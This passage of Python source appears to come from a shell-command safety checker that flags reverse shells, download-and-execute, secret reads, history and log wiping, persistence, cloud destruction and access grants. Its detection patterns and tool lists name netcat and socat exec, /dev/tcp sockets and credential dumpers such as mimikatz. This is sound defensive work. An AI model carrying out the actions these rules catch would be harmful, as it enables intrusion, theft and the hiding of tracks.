        out.extend(pre)
        out.append(cmd)
        self.commands.append(cmd)
        self._resolve(cmd)
        self._rules(cmd, out, depth)

    # ---- wrappers ------------------------------------------------------------------------

    def _resolve(self, cmd: _Simple) -> None:
        cmd.argv = [w.value for w in cmd.words]
        words = list(cmd.words)
        steps = 0
        while words and steps < 16:
            steps += 1
            name = _base(words[0].value)
            if name == "busybox" and len(words) > 1:
                cmd.wrappers.append(name)
                words = words[1:]
                continue
            if name not in _WRAPPERS_PLAIN:
                break
            if name == "command" and len(words) > 1 and words[1].value in ("-v", "-V"):
                words = []
                break
            if name == "exec" and len(words) == 1:
                break
            if (
                name in ("sudo", "doas")
                and any(w.value in ("-s", "-i") for w in words[1:3])
                and all(w.value.startswith("-") for w in words[1:])
            ):
                cmd.wrappers.append(name)
                words = [_Word("sh", False)]
                break
            cmd.wrappers.append(name)
            opts = _WRAPPER_ARG_OPTS.get(name, frozenset())
            i = 1
            while i < len(words):
                v = words[i].value
                if v == "--":
                    i += 1
                    break
                if name == "env" and "=" in v and not v.startswith("-"):
                    k, _, val = v.partition("=")
                    cmd.env_assigns.append((k, val))
                    self._check_assignment(k, val, cmd.text)
                    i += 1
                    continue
                if name == "env" and v in ("-S", "--split-string") and i + 1 < len(words):
                    words = [_Word(x, words[i + 1].unknown) for x in words[i + 1].value.split()]
                    i = 0
                    break
                if not v.startswith("-") or v == "-":
                    break
                i += 2 if v in opts else 1
            if name == "timeout" and i < len(words):
                i += 1  # the duration
            if name in ("chroot", "flock") and i < len(words):
                i += 1  # the new root / the lock file
            words = words[i:]
        if not words:
            cmd.name = cmd.wrappers[-1] if cmd.wrappers else ""
            cmd.rest = []
            return
        cmd.head = words[0].value
        cmd.name = _base(words[0].value)
        cmd.rest = words[1:]

    # ---- per-command rules ---------------------------------------------------------------

    def _values(self, cmd: _Simple) -> list[str]:
        return [w.value for w in cmd.rest]

    def _reads_code_stdin(self, cmd: _Simple) -> bool:
        name = cmd.name
        args = self._values(cmd)
        if name in ("source", ".") or name == "eval":
            return any(a in ("/dev/stdin", "/dev/fd/0", "/proc/self/fd/0") for a in args)
        if name in ("iex", "invoke-expression"):
            return True
        if not _is_interp(name):
            return False
        fam = _family(name)
        if _is_shell(name):
            if "-c" in args or any(_flag(a, "c") for a in args):
                return False
            if "-s" in args:
                return True
            operands = [a for a in args if not a.startswith(("-", "+"))]
            return not operands or operands[0] in ("/dev/stdin", "/dev/fd/0", "-")
        if fam in ("awk", "gawk", "nawk", "mawk"):
            return False
        flags = _CODE_FLAGS.get(fam, ())
        if any(a in flags or a == "-m" for a in args):
            return False
        operands = [a for a in args if not a.startswith("-")]
        return not operands or operands[0] in ("-", "/dev/stdin")

    def _is_downloader(self, cmd: _Simple) -> bool:
        name = cmd.name.lower()
        if name in _DOWNLOADERS:
            return True
        if name in ("python", "python3") and any(
            "urllib" in a or "requests" in a or a == "http.server" for a in self._values(cmd)
        ):
            return True
        return name in _NET_CLIENTS and name != "openssl"

    def _is_decoder(self, cmd: _Simple) -> bool:
        name = cmd.name
        args = self._values(cmd)
        flags = {a for a in args if a.startswith("-")}
        if name in ("base64", "base32", "basenc", "gbase64"):
            return bool(
                flags & {"-d", "--decode", "-D", "-di", "-id"} or any(_flag(f, "d") for f in flags)
            )
        if name == "openssl":
            return bool(args) and args[0] in ("base64", "enc") and "-d" in args
        if name == "xxd":
            return any(f.startswith("-r") for f in flags)
        if name in ("uudecode", "rev", "zcat", "gunzip", "bunzip2", "xzcat", "unxz"):
            return True
        if name in ("gzip", "bzip2", "xz", "zstd") and flags & {"-d", "--decompress", "-dc"}:
            return True
        if name == "tr" and len(args) >= 2 and re.search(r"n-za-m|N-ZA-M", " ".join(args)):
            return True
        if name in ("printf", "echo") and any(
            re.search(r"\\x[0-9a-fA-F]{2}|\\[0-7]{3}", a) for a in args
        ):
            return True
        return name in ("certutil",) and any(a.lower() == "-decode" for a in args)

    def _is_net_client(self, cmd: _Simple) -> bool:
        name = cmd.name
        if name == "openssl":
            return "s_client" in self._values(cmd)
        return name in _NET_CLIENTS

    def _rules(self, cmd: _Simple, out: list[_Simple], depth: int) -> None:
        name = cmd.name
        args = self._values(cmd)
        text = cmd.text
        for w in cmd.wrappers:
            if w in _PRIVILEGE_CMDS:
                self.emit("shell.privilege", f"runs a command as another user ({w})", text)
        if name in _PRIVILEGE_CMDS:
            self.emit("shell.privilege", f"switches user ({name})", text)
        self._redirect_rules(cmd)
        self._exec_from_substitution(cmd)
        self._assign_rules(cmd)
        if not name:
            return
        if name in ("cd", "pushd", "chdir"):
            self._change_dir(cmd)
        self._nested_rules(cmd, out, depth)
        self._interp_rules(cmd)
        self._destructive_rules(cmd)
        self._secret_rules(cmd)
        self._chmod_rules(cmd)
        self._history_rules(cmd)
        self._persistence_rules(cmd)
        self._network_rules(cmd)
        self._cloud_rules(cmd)
        self._access_rules(cmd)
        self._upload_rules(cmd)
        self._git_rules(cmd)
        if name in ("usermod", "gpasswd", "adduser") and any(
            a in ("sudo", "wheel", "admin", "root", "docker") for a in args
        ):
            self.emit("shell.privilege", "adds a user to an administrative group", text)
        if name == "setcap":
            self.emit("shell.privilege", "grants file capabilities", text)

    def _assign_rules(self, cmd: _Simple) -> None:
        for k, v in cmd.assigns:
            self._check_assignment(k, v, cmd.text)

    def _exec_from_substitution(self, cmd: _Simple) -> None:
        """`$(curl ...)` as the command itself, or given to sh -c / eval / source / python -c."""
        executes = False
        if cmd.words and cmd.words[0].subs:
            executes = True
            subs_words = [cmd.words[0]]
        else:
            subs_words = [w for w in cmd.rest if w.subs]
            name = cmd.name
            if name == "eval" or name in ("source", "."):
                executes = True
            elif _is_interp(name):
                flags = (*_CODE_FLAGS.get(_family(name), ()), "-c")
                vals = self._values(cmd)
                executes = any(v in flags for v in vals) or any(w.procsub for w in subs_words)
        if not executes:
            return
        for w in subs_words:
            if any(self._is_downloader(s) for s in w.subs):
                self.emit("shell.download-exec", "runs the output of a download", cmd.text)
            if any(self._is_decoder(s) for s in w.subs):
                self.emit("shell.decode-exec", "runs decoded text", cmd.text)

    def _nested_rules(self, cmd: _Simple, out: list[_Simple], depth: int) -> None:
        name = cmd.name
        rest = cmd.rest
        vals = [w.value for w in rest]
        code: list[_Word] = []
        if _is_shell(name) and name not in ("pwsh", "powershell"):
            for i, v in enumerate(vals):
                if _flag(v, "c") and i + 1 < len(rest):
                    code.append(rest[i + 1])
                    break
        elif name == "eval" and rest:
            code.append(_Word(" ".join(vals), any(w.unknown for w in rest)))
        elif name in ("su", "runuser", "script"):
            for i, v in enumerate(vals):
                if v in ("-c", "--command", "-qc", "-cq") and i + 1 < len(rest):
                    code.append(rest[i + 1])
        elif name == "watch" and rest:
            body = [w for w in rest if not w.value.startswith("-")]
            code.append(_Word(" ".join(w.value for w in body), any(w.unknown for w in body)))
        elif name in ("find", "fd") and rest:
            for i, v in enumerate(vals):
                if v in ("-exec", "-execdir", "-ok", "-okdir", "-x", "--exec"):
                    j = i + 1
                    while j < len(vals) and vals[j] not in (";", "+", "\\;"):
                        j += 1
                    sub_words = rest[i + 1 : j]
                    if sub_words:
                        sub = _Simple(sub_words, [], [], " ".join(vals[i + 1 : j]), cmd.start)
                        self.commands.append(sub)
                        self._resolve(sub)
                        self._rules(sub, out, depth)
                        out.append(sub)
        for w in code:
            self.emit("shell.nested", f"runs a command string ({name})", cmd.text)
            if w.unknown and not w.subs:
                continue  # its value is not known here; substitutions were analysed already
            out.extend(self.run(w.value, depth + 1))

    def _interp_rules(self, cmd: _Simple) -> None:
        name = cmd.name
        fam = _family(name)
        vals = self._values(cmd)
        text = cmd.text
        if name in ("pwsh", "powershell"):
            joined = " ".join(vals)
            if re.search(r"(?i)(^|\s)-e(nc|ncodedcommand|c)?\b", joined):
                self.emit("shell.decode-exec", "runs an encoded PowerShell command", text)
            code = joined
        elif _is_interp(name):
            flags = _CODE_FLAGS.get(fam, ())
            code = ""
            for i, v in enumerate(vals):
                if (
                    v in flags or (fam == "perl" and (_flag(v, "eE") and v[-1] in "eE"))
                ) and i + 1 < len(vals):
                    code = vals[i + 1]
                    break
                glued = next((f for f in flags if f.startswith("-") and v.startswith(f)), None)
                if glued is not None and len(v) > len(glued) and not v.startswith("--"):
                    code = v[len(glued) :]
                    break
            if fam in ("awk", "gawk", "nawk", "mawk"):
                code = " ".join(vals)
            if fam == "python" and "-m" in vals:
                mod = vals[vals.index("-m") + 1] if vals.index("-m") + 1 < len(vals) else ""
                if mod in ("http.server", "SimpleHTTPServer", "pyftpdlib", "smtpd"):
                    self.emit("shell.network-listener", f"starts a server (python -m {mod})", text)
            if fam == "php" and "-S" in vals:
                self.emit("shell.network-listener", "starts a server (php -S)", text)
        elif name in ("iex", "invoke-expression"):
            code = " ".join(vals)
        else:
            return
        if not code:
            return
        if _SOCKET_RE.search(code) and (
            _EXEC_RE.search(code) or (fam in ("awk", "gawk") and "|&" in code)
        ):
            self.emit(
                "shell.reverse-shell", f"a {fam} one-liner that wires a socket to a shell", text
            )
        elif re.search(r"(?i)\.(bind|listen)\s*\(|createServer|TCPServer|TcpListener", code):
            self.emit("shell.network-listener", f"a {fam} one-liner that listens", text)
        if _FETCH_RE.search(code) and _RUN_CODE_RE.search(code):
            self.emit("shell.download-exec", f"a {fam} one-liner that runs downloaded code", text)
        if _DECODE_RE.search(code) and _RUN_CODE_RE.search(code):
            self.emit("shell.decode-exec", f"a {fam} one-liner that runs decoded code", text)
        for m in _QUOTED_RE.finditer(code[:20_000]):
            s = m.group(1)
            if looks_like_path(s) and is_secret_path(s, self.home):
                self.emit("shell.secret-read", f"a {fam} one-liner reads {s}", text)
                break
        if re.search(
            r"(?i)os\.environ\b(?!\s*\[|\.get)|process\.env\b(?!\.)|%ENV\b|\bENV\.to_h", code
        ):
            self.emit("shell.secret-read", f"a {fam} one-liner dumps the environment", text)

    # ---- path-based rules ----------------------------------------------------------------

    def _outside(self, path: str) -> bool:
        return not inside_any(normalize_path(path, home=self.home, cwd=self.cwd), self.workspace)

    def _change_dir(self, cmd: _Simple) -> None:
        """Follow `cd`/`pushd` so later relative paths resolve where the shell would be."""
        args = [w for w in cmd.rest if not w.value.startswith("-") or w.value == "-"]
        if not args:
            self.cwd = normalize_path("~", home=self.home)
        elif args[0].unknown or args[0].value == "-":
            self.cwd = "/\x00unknown"  # relative paths now resolve outside every root
        else:
            self.cwd = normalize_path(args[0].value, home=self.home, cwd=self.cwd)

    def _dangerous_target(self, word: _Word) -> str | None:
        """Why deleting `word` reaches outside the workspace, or None."""
        v = word.value
        if word.unknown:
            return f"a target only known at run time ({v[:60]})"
        if v in ("*", ".*", "/*", "~/*", "~", "/", "$HOME", "${HOME}") or v.rstrip("/*") in (
            "",
            "~",
            "$HOME",
            "${HOME}",
        ):
            return f"a sweeping target ({v})"
        if self._outside(v):
            norm = normalize_path(v, home=self.home, cwd=self.cwd)
            if re.match(r"^/(tmp|var/tmp)/[^*]", norm) and ".." not in v:
                return None  # scratch space
            return f"{v} is outside the workspace"
        norm = normalize_path(v, home=self.home, cwd=self.cwd)
        for rn in self.workspace:
            if norm == rn or (rn.startswith(norm.rstrip("/") + "/") and norm != "."):
                return f"{v} is the workspace itself"
        return None

    def _destructive_rules(self, cmd: _Simple) -> None:
        name = cmd.name
        text = cmd.text
        rest = cmd.rest
        vals = [w.value for w in rest]
        if _ALWAYS_DESTRUCTIVE.match(name):
            self.emit(
                "shell.destructive-outside-workspace", f"formats or wipes a disk ({name})", text
            )
            return
        if name in _DESTROYERS or (name == "truncate" and vals):
            targets = [w for w in rest if not w.value.startswith("-") or w.value == "-"]
            if "xargs" in cmd.wrappers:
                targets.append(_Word("(arguments read by xargs)", True))
            if name == "truncate":
                targets = [w for w in targets if not re.fullmatch(r"[0-9kKmMgG+<>/%-]+", w.value)]
            for w in targets:
                why = self._dangerous_target(w)
                if why:
                    self.emit("shell.destructive-outside-workspace", f"{name}: {why}", text)
                    break
            return
        if name == "dd":
            for v in vals:
                if v.startswith("of="):
                    target = v[3:]
                    if (
                        target.startswith("/dev/")
                        and not re.match(r"/dev/(null|stdout|stderr|fd/)", target)
                    ) or (self._outside(target) and not target.startswith("/tmp/")):
                        self.emit(
                            "shell.destructive-outside-workspace", f"dd writes to {target}", text
                        )
            return
        if (name == "find" and any(v in ("-delete",) for v in vals)) or (
            name == "find" and any(v in ("-exec", "-execdir") for v in vals) and "rm" in vals
        ):
            starts = [w for w in rest if not w.value.startswith(("-", "(", "!"))][:1]
            if starts and (starts[0].unknown or self._outside(starts[0].value)):
                where = starts[0].value if starts else "."
                self.emit(
                    "shell.destructive-outside-workspace", f"find deletes under {where}", text
                )
            return
        if name in ("mv",):
            sources = [w for w in rest if not w.value.startswith("-")][:-1]
            for w in sources:
                why = self._dangerous_target(w)
                if why:
                    self.emit("shell.destructive-outside-workspace", f"mv moves away {why}", text)
                    break
            if vals and vals[-1] == "/dev/null":
                self.emit("shell.destructive-outside-workspace", "mv into /dev/null", text)
        if name in ("chmod", "chown", "chgrp") and any(
            v in ("-R", "--recursive") or _flag(v, "R") for v in vals
        ):
            for w in rest[1:]:
                if w.value.rstrip("/") in ("", "~", "$HOME") or w.value in ("/*", "~/*"):
                    self.emit(
                        "shell.destructive-outside-workspace",
                        f"{name} -R on {w.value or '/'}",
                        text,
                    )
        if name == "git" and vals[:1] == ["clean"] and any("x" in v for v in vals[1:]):
            pass  # inside the repository: left to the workspace rules

    def _write_targets(self, cmd: _Simple) -> list[tuple[str, str]]:
        """(path, how) for each file the command writes."""
        found: list[tuple[str, str]] = []
        for r in cmd.redirects:
            if r.op in (">", ">>", ">|", "&>", "&>>", ">&", "<>") and r.target:
                target = r.target.split(" ")[0]
                if not target.isdigit() and target != "-":
                    found.append((target, r.op))
        name = cmd.name
        vals = self._values(cmd)
        operands = [v for v in vals if not v.startswith("-")]
        if name == "tee":
            found.extend((v, "tee") for v in operands)
        elif name in _COPY_CMDS and len(operands) >= 2:
            found.append((operands[-1], name))
        elif name == "dd":
            found.extend((v[3:], "dd") for v in vals if v.startswith("of="))
        elif name in ("sed", "perl") and any(v.startswith("-i") or v == "--in-place" for v in vals):
            found.extend((v, f"{name} -i") for v in operands[1:] if looks_like_path(v))
        elif name in ("touch", "truncate", "vi", "vim", "nano", "ed", "emacs"):
            found.extend((v, name) for v in operands if looks_like_path(v))
        elif name in ("curl", "wget"):
            for i, v in enumerate(vals):
                wants = ("-o", "--output") if name == "curl" else ("-O", "--output-document")
                if v in wants and i + 1 < len(vals):
                    found.append((vals[i + 1], name))
        return found

    def _redirect_rules(self, cmd: _Simple) -> None:
        text = cmd.text
        for r in cmd.redirects:
            if re.search(r"/dev/(tcp|udp)/", r.target):
                interactive = _is_interp(cmd.name) or cmd.name in ("exec", "")
                dup = any(
                    re.fullmatch(r"0?[<>]&\s*\d", (x.op + x.target).strip())
                    or x.target.strip().endswith("0>&1")
                    for x in cmd.redirects
                ) or any(re.search(r"\b0>&1\b|<&\s*\d", r2.target) for r2 in cmd.redirects)
                if interactive or dup or "0>&1" in text or "<&" in text:
                    self.emit("shell.reverse-shell", "attaches a shell to a /dev/tcp socket", text)
            if r.op in ("<", "<>") and r.target and is_secret_path(r.target, self.home):
                self.emit("shell.secret-read", f"reads {r.target}", text)
            if r.op == "<" and r.inner and self._reads_code_stdin(cmd):
                if any(self._is_downloader(s) for s in r.inner):
                    self.emit("shell.download-exec", "feeds a download to an interpreter", text)
                if any(self._is_decoder(s) for s in r.inner):
                    self.emit("shell.decode-exec", "feeds decoded text to an interpreter", text)
        for target, how in self._write_targets(cmd):
            self._write_rules(cmd, target, how)

    def _write_rules(self, cmd: _Simple, target: str, how: str) -> None:
        text = cmd.text
        norm = normalize_path(target, home=self.home, cwd=self.cwd)
        rel = norm.replace("/~/", "~/")
        if _HISTORY_FILE_RE.search(norm) and how not in (">>", "tee", "cp", "install"):
            self.emit("shell.history-off", f"overwrites the history file {target}", text)
        elif _LOG_PATH_RE.search(norm) and how in (">", ">|", "&>", "truncate", "cp", "mv", "dd"):
            self.emit("shell.history-off", f"overwrites the log {target}", text)
        if _PERSIST_PATH_RE.search(norm) or _PERSIST_PATH_RE.search(rel):
            self.emit("shell.persistence", f"writes {target}, which runs at login or boot", text)
        if _PRIV_PATH_RE.search(norm):
            self.emit("shell.privilege", f"writes {target}", text)
        scratch = re.match(r"^/(tmp|var/tmp|dev/(null|stdout|stderr|fd/|tty|pts/|tcp/|udp/))", norm)
        if (
            how in (">", ">|", "&>", ">&", "dd", "tee", "truncate")
            and not scratch
            and (
                norm.startswith("/dev/")
                or (
                    self._outside(target)
                    and not _PERSIST_PATH_RE.search(norm)
                    and not _HISTORY_FILE_RE.search(norm)
                    and how != "tee"
                )
            )
        ):
            self.emit(
                "shell.destructive-outside-workspace",
                f"overwrites {target}, outside the workspace",
                text,
            )

    def _secret_rules(self, cmd: _Simple) -> None:
        before = self._counts.get("shell.secret-read", 0), len(self._seen)
        self._secret_rules_inner(cmd)
        if (self._counts.get("shell.secret-read", 0), len(self._seen)) != before and any(
            sig.kind == "shell.secret-read" and sig.evidence == cmd.text[:200]
            for sig in self.signals[-3:]
        ):
            cmd.secret = True
        vals = self._values(cmd)
        if (
            cmd.name in ("kubectl", "oc")
            and "get" in vals
            and any(
                v in ("secret", "secrets") or v.startswith(("secret/", "secrets/")) for v in vals
            )
        ):
            cmd.secret = True
        if (cmd.name in ("env", "printenv") and not self._is_narrowed(cmd)) or (
            cmd.name == "cat"
            and any(is_secret_path(v, self.home) for v in vals if looks_like_path(v))
        ):
            cmd.secret = True

    def _is_narrowed(self, cmd: _Simple) -> bool:
        return (cmd.start, cmd.text) in self._narrowed

    def _secret_rules_inner(self, cmd: _Simple) -> None:
        name = cmd.name
        vals = self._values(cmd)
        text = cmd.text
        operands = vals
        if name in _COPY_CMDS:
            plain = [v for v in vals if not v.startswith("-")]
            operands = plain[:-1] if len(plain) >= 2 else plain
        for v in operands:
            for cand in (v, v.split("=", 1)[-1], v.lstrip("@"), v.split("=@", 1)[-1]):
                if cand and is_secret_path(cand, self.home) and looks_like_path(cand):
                    self.emit("shell.secret-read", f"{name} touches {cand}", text)
                    break
            else:
                continue
            break
        if name in ("env", "printenv") and not cmd.rest and not self._is_narrowed(cmd):
            self.emit("shell.secret-read", f"dumps the environment ({name})", text)
        elif name == "printenv" and any(_SECRET_VAR_RE.search(v) for v in vals):
            self.emit("shell.secret-read", "prints a secret-named variable", text)
        elif name in ("set",) and not vals:
            self.emit("shell.secret-read", "dumps shell variables (set)", text)
        elif name in ("export", "declare", "typeset") and all(
            v in ("-p", "-x", "-px") for v in vals
        ):
            self.emit("shell.secret-read", f"dumps the environment ({name})", text)
        for tool, pattern in _SECRET_TOOLS:
            if name == tool and any(pattern.match(v) for v in vals):
                if tool == "aws" and not any(v in ("get", "export-credentials") for v in vals):
                    continue
                self.emit("shell.secret-read", f"reads a stored credential ({tool})", text)
                break
        if name.startswith("docker-credential-") and "get" in vals:
            self.emit("shell.secret-read", "reads a stored credential (docker)", text)
        if name in ("mimikatz", "lazagne", "secretsdump.py", "procdump"):
            self.emit("shell.secret-read", f"a credential dumper ({name})", text)

    def _chmod_rules(self, cmd: _Simple) -> None:
        if cmd.name == "umask":
            vals = self._values(cmd)
            if (
                vals
                and re.fullmatch(r"0*[0-7]{0,3}", vals[0])
                and int(vals[0] or "0", 8) & 0o2 == 0
            ):
                self.emit(
                    "shell.chmod-world", f"umask {vals[0]} makes new files world-writable", cmd.text
                )
            return
        if cmd.name not in ("chmod", "icacls", "cacls"):
            return
        vals = [v for v in self._values(cmd) if not re.fullmatch(r"-[a-zA-Z]+|--\w[\w-]*", v)]
        if not vals:
            return
        mode = vals[0]
        if cmd.name != "chmod":
            if re.search(r"(?i)everyone:\(?[^)]*[FMW]", " ".join(vals)):
                self.emit("shell.chmod-world", "grants Everyone write access", cmd.text)
            return
        world = False
        if re.fullmatch(r"[0-7]{3,4}", mode):
            world = int(mode[-1]) & 0o2 != 0
        else:
            for clause in mode.split(","):
                m = re.fullmatch(r"([ugoa]*)([+=-])([rwxXst]*)", clause)
                if m and m.group(2) in "+=" and "w" in m.group(3):
                    who = m.group(1)
                    if "o" in who or "a" in who:
                        world = True
        if world:
            self.emit("shell.chmod-world", f"chmod {mode} lets everyone write", cmd.text)
        if _SETUID_RE.match(mode):
            self.emit("shell.privilege", f"chmod {mode} sets setuid/setgid", cmd.text)

    def _history_rules(self, cmd: _Simple) -> None:
        name = cmd.name
        vals = self._values(cmd)
        text = cmd.text
        if name == "history" and any(v in ("-c", "-cw", "-wc") or v.startswith("-d") for v in vals):
            self.emit("shell.history-off", "clears the shell history", text)
        elif (name == "set" and len(vals) >= 2 and vals[0] == "+o" and vals[1] == "history") or (
            name == "shopt" and "-u" in vals and "history" in vals
        ):
            self.emit("shell.history-off", "turns shell history off", text)
        elif name in ("systemctl", "service", "chkconfig", "update-rc.d", "launchctl"):
            if any(
                v in ("stop", "disable", "mask", "kill", "off", "remove", "unload") for v in vals
            ) and any(_LOG_SERVICES.match(v) for v in vals):
                self.emit("shell.history-off", "stops a logging or audit service", text)
        elif name == "auditctl" and (
            "-D" in vals or ("-e" in vals and vals[vals.index("-e") + 1 :][:1] == ["0"])
        ):
            self.emit("shell.history-off", "disables audit rules", text)
        elif name == "journalctl" and _wipes_journal(vals):
            self.emit("shell.history-off", "deletes journal logs", text)
        elif (
            name in ("ln",)
            and "/dev/null" in vals
            and any(_HISTORY_FILE_RE.search(v) for v in vals)
        ):
            self.emit("shell.history-off", "links the history file to /dev/null", text)
        elif name in ("rm", "shred", "unlink", "truncate") and any(
            _HISTORY_FILE_RE.search(v)
            or _LOG_PATH_RE.search(normalize_path(v, home=self.home, cwd=self.cwd))
            for v in vals
            if not v.startswith("-")
        ):
            self.emit("shell.history-off", "deletes shell history or system logs", text)
        elif name in ("wevtutil",) and any(v.lower() in ("cl", "clear-log") for v in vals):
            self.emit("shell.history-off", "clears Windows event logs", text)
        elif name in ("setenforce",) and vals[:1] == ["0"]:
            self.emit("shell.history-off", "turns SELinux enforcement off", text)

    def _persistence_rules(self, cmd: _Simple) -> None:
        name = cmd.name
        vals = self._values(cmd)
        text = cmd.text
        if name == "crontab" and not (
            vals
            and all(v in ("-l", "-u") or (not v.startswith("-") and "-l" in vals) for v in vals)
        ):
            if "-l" not in vals:
                self.emit("shell.persistence", "installs or edits a crontab", text)
        elif name == "systemctl" and any(v in ("enable", "link", "preset", "edit") for v in vals):
            self.emit("shell.persistence", "enables a service at boot", text)
        elif name == "launchctl" and any(
            v in ("load", "bootstrap", "submit", "enable") for v in vals
        ):
            self.emit("shell.persistence", "loads a launchd job", text)
        elif name in ("at", "batch") and not any(v in ("-l", "-r", "-d", "-c") for v in vals):
            # `batch` reads its jobs from a file or its input and takes no other word: a
            # console's `BATCH 6.0x120, 4.8x80` (lengths and counts) is no job queued.
            words = [
                v
                for i, v in enumerate(vals)
                if not v.startswith("-") and vals[i - 1 : i] not in (["-f"], ["-q"])
            ]
            if name == "at" or not words:
                self.emit("shell.persistence", f"schedules a job ({name})", text)
        elif name in ("update-rc.d", "chkconfig", "rc-update") and not any(
            v in ("remove", "off", "del") for v in vals
        ):
            self.emit("shell.persistence", f"adds a boot service ({name})", text)
        elif name == "schtasks" and any(v.lower() == "/create" for v in vals):
            self.emit("shell.persistence", "creates a scheduled task", text)
        elif (
            name == "reg"
            and vals[:1]
            and vals[0].lower() == "add"
            and any(re.search(r"(?i)\\run(once)?\b", v) for v in vals)
        ):
            self.emit("shell.persistence", "adds a Run registry key", text)
        elif name == "ssh-copy-id":
            self.emit("shell.persistence", "installs an SSH key", text)

    def _network_rules(self, cmd: _Simple) -> None:
        name = cmd.name
        vals = self._values(cmd)
        text = cmd.text
        if name in ("nc", "ncat", "netcat", "cryptcat", "pwncat"):
            flags = [v for v in vals if v.startswith("-")]
            listens = any(v in ("--listen", "-l") or _flag(v, "l") for v in flags)
            execs = any(
                v in ("-e", "-c", "--exec", "--sh-exec", "--lua-exec")
                or (_flag(v, "ec") and v[-1] in "ec")
                or v.startswith(("--exec=", "--sh-exec="))
                for v in flags
            )
            if execs:
                self.emit("shell.reverse-shell", f"{name} runs a program for a connection", text)
            if listens:
                self.emit("shell.network-listener", f"{name} listens for connections", text)
        elif name == "socat":
            joined = " ".join(vals).lower()
            if re.search(r"(^|[\s,])(exec|system):", joined):
                self.emit("shell.reverse-shell", "socat runs a program for a connection", text)
            if re.search(r"-listen:|^listen:|\slisten:", joined):
                self.emit("shell.network-listener", "socat listens for connections", text)
        elif name in ("ngrok", "cloudflared", "localtunnel", "lt", "bore", "frpc"):
            self.emit(
                "shell.network-listener", f"exposes a local port to the internet ({name})", text
            )
        elif name == "ssh" and any(
            v in ("-R", "-D") or (_flag(v, "RD") and v[-1] in "RD") for v in vals
        ):
            self.emit("shell.network-listener", "opens an SSH port forward", text)
        elif name == "mkfifo" or (name == "mknod" and "p" in vals):
            pass  # judged with the rest of the script

    # ---- cloud, access, uploads, git -----------------------------------------------------

    def _cloud_rules(self, cmd: _Simple) -> None:
        """Destroying infrastructure or data stores: clusters, buckets, stacks, databases."""
        name = cmd.name
        vals = [v.lower() for v in self._values(cmd)]
        text = cmd.text
        why: str | None = None
        pos = [v for v in vals if not v.startswith("-")]
        if name in ("kubectl", "oc", "k"):
            if pos[:1] == ["delete"]:
                kinds = {k for v in pos[1:2] for k in v.split("/")[0].split(",")}
                every = any(
                    v in ("--all", "-a", "--all-namespaces") or v.startswith("--all=") for v in vals
                )
                if every or not kinds <= _K8S_ROUTINE:
                    why = f"{name} delete {' '.join(pos[1:3])}"
            elif pos[:1] == ["drain"]:
                why = f"{name} drain"
            elif (
                pos[:1] == ["scale"] and any(re.fullmatch(r"--replicas=0+", v) for v in vals)
            ) or (pos[:1] == ["scale"] and _after(vals, "--replicas") == "0"):
                why = f"{name} scale to zero replicas"
        elif name == "helm" and pos[:1] and pos[0] in ("uninstall", "delete", "del", "un"):
            why = f"helm {pos[0]}"
        elif name in ("terraform", "tofu", "terragrunt", "pulumi", "cdk", "cdktf", "sam"):
            if "destroy" in pos or (pos[:1] == ["apply"] and "-destroy" in vals):
                why = f"{name} destroy"
            elif pos[:2] == ["state", "rm"] or pos[:2] == ["stack", "rm"]:
                why = f"{name} {' '.join(pos[:2])}"
        elif name == "gsutil":
            if "rb" in pos or (
                "rm" in pos and any(v in ("-r", "-R", "-a") or _flag(v, "rRa") for v in vals)
            ):
                why = "gsutil removes a bucket or a tree of objects"
        elif name == "aws":
            if (
                pos[:2] == ["s3", "rb"]
                or (pos[:2] == ["s3", "rm"] and "--recursive" in vals)
                or any(v.startswith(("delete-", "terminate-", "deregister-")) for v in pos[1:3])
            ):
                why = f"aws {' '.join(pos[:2])}"
        elif name in _CLOUD_CLIS:
            if any(v in _CLOUD_DESTROY_VERBS or v.endswith((":destroy", ":delete")) for v in pos):
                if (
                    name == "gcloud"
                    and pos[:2] == ["storage", "rm"]
                    and not any(v in ("-r", "-R", "--recursive") for v in vals)
                ):
                    why = None
                else:
                    why = f"{name} {' '.join(pos[:3])}"
        elif name in ("docker", "podman"):
            if pos[:2] == ["system", "prune"] and any(
                v in ("-a", "--all", "--volumes") or _flag(v, "a") for v in vals
            ):
                why = f"{name} system prune"
            elif pos[:1] == ["volume"] and pos[1:2] and pos[1] in ("rm", "prune"):
                why = f"{name} volume {pos[1]}"
        elif name in ("dropdb", "dropuser"):
            why = name
        elif name == "redis-cli" and any(v in ("flushall", "flushdb") for v in vals):
            why = "redis-cli flush"
        elif name in ("mysqladmin",) and "drop" in pos:
            why = "mysqladmin drop"
        if why:
            self.emit(
                "shell.cloud-destroy", f"destroys infrastructure or stored data ({why})", text
            )

    def _access_rules(self, cmd: _Simple) -> None:
        """Widening access: public ACLs, IAM bindings to everyone or to owner roles."""
        name = cmd.name
        raw = self._values(cmd)
        vals = [v.lower() for v in raw]
        joined = " ".join(vals)
        text = cmd.text
        why: str | None = None
        if name in ("gcloud", "gsutil", "az", "aws", "kubectl", "oc", "gh", "glab", "bq"):
            if re.search(r"\ball(authenticated)?users\b|\bpublic-read(-write)?\b", joined):
                why = "grants access to everyone"
            elif re.search(r"roles/(owner|editor)\b|\bcluster-admin\b|administratoraccess", joined):
                why = "grants an owner or administrator role"
            elif re.search(
                r"put-bucket-(acl|policy)|delete-public-access-block|create-access-key"
                r"|create-login-profile|--visibility[= ]public|deploy-key add|"
                r"\bcollaborators\b",
                joined,
            ):
                why = "changes who can reach a resource"
            elif (
                name == "az"
                and "role" in vals
                and "assignment" in vals
                and re.search(r"\b(owner|contributor|user access administrator)\b", joined)
            ):
                why = "grants an owner role"
        if why:
            self.emit("shell.access-grant", f"{name} {why}", text)

    def _sends(self, cmd: _Simple) -> bool:
        """A command that sends data over the network."""
        return cmd.name in _SENDERS or self._is_net_client(cmd) or bool(self._upload_host(cmd))

    def _upload_host(self, cmd: _Simple) -> str | None:
        """The remote host a command uploads data or files to, or None."""
        name = cmd.name
        vals = self._values(cmd)
        urls = [v for v in vals if re.match(r"(?i)^[a-z][a-z0-9+.-]*://", v)]
        sends = False
        if name == "curl":
            for v in vals:
                if v in _CURL_DATA or v.startswith(
                    tuple(o + "=" for o in _CURL_DATA if o[1] == "-")
                ):
                    sends = True
                elif re.fullmatch(r"-[a-zA-Z]*[dFT][a-zA-Z]*\S*", v) and not v.startswith("--"):
                    sends = sends or v[1] in "dFT" or any(c in "dFT" for c in v[1:3])
            if not urls:
                urls = [v for v in vals if re.match(r"^[\w.-]+\.[a-z]{2,}(/|:|$)", v)]
        elif name == "wget":
            sends = any(
                v.startswith(("--post-", "--body-", "--method=post", "--method=put"))
                for v in (x.lower() for x in vals)
            )
